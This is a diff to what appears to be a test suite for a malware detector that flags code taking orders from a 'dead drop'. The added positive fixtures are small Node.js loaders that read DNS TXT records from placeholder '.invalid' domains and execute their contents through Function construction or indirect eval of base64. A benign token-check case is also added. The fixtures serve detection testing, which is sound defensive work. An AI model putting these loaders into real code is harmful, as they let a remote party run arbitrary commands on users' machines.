@@ -67,8 +67,33 @@ examine(takesOrdersFromDeadDrop, {
       },
       weight: 'proof',
     },
+    {
+      when: 'what another file finds in a name record is run, when somebody calls it',
+      files: {
+        'index.js': `const { rows } = require('./names'); exports.load = async () => Reflect.construct(Function, ['require', (await rows('_checks.specimen.invalid')).join('')])(require);`,
+        'names.js': `const { Resolver } = require('dns').promises; const resolver = new Resolver(); exports.rows = async name => (await resolver.resolveTxt(name)).map(row => row.join(''));`,
+      },
+      weight: 'strong',
+      says: ['a name record'],
+    },
+    {
+      when: 'the same by eval, of records in base64',
+      files: {
+        'index.js': `import { rows } from './names.js'; export async function load() { const parts = await rows('plug-ins.specimen.invalid'); (0, eval)(Buffer.from(parts.join(''), 'base64').toString()); }`,
+        'names.js': `import { resolveTxt } from 'node:dns/promises'; export const rows = async name => (await resolveTxt(name)).map(row => row.join(''));`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'a record is shown that another file has asked for',
+      files: {
+        'index.js': `const { rows } = require('./names'); exports.verify = async token => (await rows('_challenge.specimen.invalid')).includes(token);`,
+        'names.js': `const { Resolver } = require('dns').promises; const resolver = new Resolver(); exports.rows = async name => (await resolver.resolveTxt(name)).map(row => row.join(''));`,
+      },
+    },
+
     {
       when: 'what was read is shown',
       files: { 'index.js': `fetch('https://${PAGE}/inert').then(r => r.text()).then(t => console.log(t))` },
